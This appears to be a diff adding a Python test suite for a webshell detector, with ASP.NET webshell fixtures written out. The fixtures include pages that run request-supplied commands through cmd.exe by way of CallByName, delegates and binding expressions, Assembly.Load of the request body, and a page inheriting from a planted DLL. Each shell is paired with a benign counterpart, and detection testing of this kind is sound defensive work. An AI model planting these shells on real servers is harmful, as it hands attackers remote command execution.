@@ -1,0 +1,212 @@
+"""Dangerous calls the flow analysis cannot tie to the request, and pages whose code is elsewhere:
+a process object filled with request data and started by a delegate or `CallByName`, a sink fed
+by values that fold to nothing fixed, a page that only inherits a class from a planted assembly.
+Each shell below is written for these tests from the published technique
+(docs/detection/webshell-code.md); each has a benign look-alike that must stay below medium."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from code_support import chain_of, medium_or_above, run
+from exhunt.filehunt import codehunt
+from exhunt.filehunt.locations import Location, Place
+from files_support import by_rule, hunt, server_file
+
+PROCESS = "EXH-WS-CODE-PROCESS"
+UNRESOLVED = "EXH-WS-CODE-UNRESOLVED-SINK"
+PLANTED = "EXH-WS-CODE-PLANTED-DLL"
+
+
+def cs_page(body: str) -> str:
+    return f'<%@ Page Language="C#" %>\n<script runat="server">\n{body}\n</script>\n'
+
+
+# ----------------------------------------------------------------------------- a process built, then started indirectly
+
+VB_CALLBYNAME = """<%@ Page Language="VB" %>
+<%
+Dim c As String = Request.Form("c")
+Dim psi As New System.Diagnostics.ProcessStartInfo()
+psi.FileName = "cmd.exe"
+psi.Arguments = "/c " & c
+psi.UseShellExecute = False
+Dim p As New System.Diagnostics.Process()
+p.StartInfo = psi
+CallByName(p, "Start", CallType.Method)
+%>"""
+
+
+def test_a_process_filled_with_request_data_runs_it_however_it_is_started() -> None:
+    delegate = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var psi = new System.Diagnostics.ProcessStartInfo();
+    psi.FileName = "cmd.exe";
+    psi.Arguments = "/c " + Request.Form["c"];
+    var p = new System.Diagnostics.Process();
+    p.StartInfo = psi;
+    Func<bool> go = p.Start;
+    go();
+}""")
+    for name, code in (("callbyname.aspx", VB_CALLBYNAME), ("delegate.aspx", delegate)):
+        report = run(name, code)
+        assert PROCESS in medium_or_above(report), name
+        assert "form field 'c'" in chain_of(report, PROCESS), name
+
+
+def test_a_process_filled_with_fixed_values_stays_quiet() -> None:
+    code = VB_CALLBYNAME.replace('"/c " & c', '"/c ver"')
+    assert medium_or_above(run("callbyname-benign.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- sinks fed by unresolved values
+
+
+def test_a_sink_fed_by_a_value_from_nowhere_fixed_is_suspect() -> None:
+    hidden = cs_page("""void Page_Load(object sender, EventArgs e) {
+    string c = Contoso.Relay.Next(Context);
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
+}""")
+    loader = cs_page("""void Page_Load(object sender, EventArgs e) {
+    byte[] b = Contoso.Relay.Blob(Context);
+    System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(this);
+}""")
+    for name, code, word in (("hidden.aspx", hidden, '"/c " + c'), ("loader.aspx", loader, "`b`")):
+        report = run(name, code)
+        assert UNRESOLVED in medium_or_above(report), name
+        assert word in chain_of(report, UNRESOLVED), name
+
+
+def test_fixed_sites_settings_and_reached_sinks_are_not_unresolved() -> None:
+    code = cs_page("""string Tool { get { return "ipconfig"; } }
+void Page_Load(object sender, EventArgs e) {
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + Tool);
+    System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Plugins.dll"));
+    var cn = new System.Data.SqlClient.SqlConnection(
+        System.Configuration.ConfigurationManager.ConnectionStrings["db"].ConnectionString);
+    string name = System.IO.Path.GetFileName(Upload1.PostedFile.FileName);
+    Upload1.PostedFile.SaveAs(System.IO.Path.Combine(Server.MapPath("~/uploads"), name));
+    typeof(Page).GetField("x").SetValue(this, name);
+}""")
+    assert medium_or_above(run("settings.aspx", code)) == []
+    reached = cs_page("""void Page_Load(object sender, EventArgs e) {
+    string c = Request.Form["c"];
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + Contoso.Relay.Next(Context));
+}""")
+    found = medium_or_above(run("reached.aspx", reached))
+    assert PROCESS in found and UNRESOLVED not in found
+
+
+def test_an_upload_handler_writing_where_its_settings_say_stays_quiet() -> None:
+    code = """<%@ WebHandler Language="C#" Class="Up" %>
+public class Up : System.Web.IHttpHandler {
+    public bool IsReusable { get { return true; } }
+    public void ProcessRequest(System.Web.HttpContext ctx) {
+        string dir = Store.Folder();
+        var f = ctx.Request.Files[0];
+        f.SaveAs(dir + System.IO.Path.GetFileName(f.FileName));
+    }
+}"""
+    assert medium_or_above(run("upload.ashx", code)) == []
+
+
+def test_the_finding_takes_the_weight_of_where_the_page_sits(tmp_path: Path) -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    System.Diagnostics.Process.Start("cmd.exe", "/c " + Contoso.Relay.Next(Context));
+}""").encode()
+    auth = server_file(tmp_path, r"C:\inetpub\wwwroot\aspnet_client\system_web\o.aspx", code)
+    elsewhere = server_file(tmp_path, r"D:\backup\tools\o.aspx", code)
+    assert by_rule(hunt(auth))[UNRESOLVED].severity.name == "HIGH"
+    assert by_rule(hunt(elsewhere))[UNRESOLVED].severity.rank < 2
+
+
+# ----------------------------------------------------------------------------- a page that only inherits a planted class
+
+
+def test_a_page_that_only_inherits_a_class_from_a_planted_assembly() -> None:
+    report = run("errorFE.aspx", '<%@ Page Language="C#" Inherits="Contoso.Diag.Probe" %>\n')
+    assert PLANTED in medium_or_above(report)
+    assert "inherits Contoso.Diag.Probe" in chain_of(report, PLANTED)
+    stub = b'<%@ Page Language="C#" Inherits="Contoso.Diag.Probe" %>\n'
+    where = Location("c:/inetpub/wwwroot/owa/auth/errorFE.aspx", Place.IIS_WEBROOT, True)
+    assert codehunt.wants(where, stub)
+
+
+def test_pages_with_their_own_code_and_library_handler_stubs_stay_quiet() -> None:
+    for name, code in (
+        ("default.aspx", '<%@ Page Language="C#" CodeBehind="default.aspx.cs" Inherits="Site.Default" %>'),
+        ("home.aspx", '<%@ Page Language="C#" Inherits="System.Web.UI.Page" %>'),
+        ("progress.ashx", '<%@ WebHandler Language="C#" Class="Brettle.Web.NeatUpload.ProgressJsonHandler" %>'),
+    ):
+        assert medium_or_above(run(name, code)) == [], name
+
+
+# ----------------------------------------------------------------------------- directives spelled `<% @ ... %>`
+
+SPACED_HANDLER = """<% @ webhandler language="C#" class="H" %>
+using System.Web;
+public class H : IHttpHandler {
+    public bool IsReusable { get { return true; } }
+    public void ProcessRequest(HttpContext ctx) {
+        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + ctx.Request.QueryString["q"]);
+        psi.UseShellExecute = false;
+        System.Diagnostics.Process.Start(psi);
+    }
+}"""
+
+
+def test_a_directive_with_space_before_its_at_sign_is_a_directive() -> None:
+    report = run("h.ashx", SPACED_HANDLER)
+    assert PROCESS in medium_or_above(report)
+    assert "query parameter 'q'" in chain_of(report, PROCESS)
+
+
+def test_a_spaced_directive_handler_with_a_fixed_command_stays_quiet() -> None:
+    code = SPACED_HANDLER.replace('"/c " + ctx.Request.QueryString["q"]', '"/c ver"')
+    assert medium_or_above(run("h-benign.ashx", code)) == []
+
+
+# ----------------------------------------------------------------------------- a stray brace in a statement block
+
+STRAY_BRACE = """<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%
+Session.Add("k", "e45e"); return; }
+byte[] c = Request.BinaryRead(Request.ContentLength);
+Assembly.Load(c).CreateInstance("U").Equals(this);
+%>"""
+
+
+def test_sinks_after_a_stray_brace_are_read_by_tokens() -> None:
+    report = run("brace.aspx", STRAY_BRACE)
+    assert "EXH-WS-CODE-ASSEMBLY" in medium_or_above(report)
+    assert "request body" in chain_of(report, "EXH-WS-CODE-ASSEMBLY")
+
+
+def test_a_stray_brace_before_fixed_calls_stays_quiet() -> None:
+    code = STRAY_BRACE.replace(
+        "Request.BinaryRead(Request.ContentLength)", 'System.IO.File.ReadAllBytes("C:\\\\app\\\\p.dll")'
+    )
+    assert medium_or_above(run("brace-benign.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- binding and builder expressions
+
+BOUND = """<%@ Page Language="C#" %>
+<% Page.DataBind(); %>
+<html><body><pre><%# System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]) { UseShellExecute = false, RedirectStandardOutput = true }).StandardOutput.ReadToEnd() %></pre></body></html>"""
+BUILDER = """<%@ Page Language="C#" %>
+<asp:Literal runat="server" Text='<%$ Code: System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]).Id.ToString() %>' />"""
+
+
+def test_data_binding_and_custom_builder_expressions_are_code() -> None:
+    for name, code in (("bound.aspx", BOUND), ("builder.aspx", BUILDER)):
+        report = run(name, code)
+        assert PROCESS in medium_or_above(report), name
+        assert "request parameter 'c'" in chain_of(report, PROCESS), name
+
+
+def test_ordinary_binding_and_settings_expressions_stay_quiet() -> None:
+    code = """<%@ Page Language="C#" %>
+<asp:Repeater runat="server" ID="r"><ItemTemplate><a href='<%# Eval("Url") %>'><%# Eval("Name") %></a></ItemTemplate></asp:Repeater>
+<asp:Literal runat="server" Text='<%$ AppSettings: Title %>' /><asp:Literal runat="server" Text='<%$ Resources: Site, Hello %>' />
+<% r.DataSource = Items(Request.QueryString["page"]); r.DataBind(); %>"""
+    assert medium_or_above(run("list.aspx", code)) == []
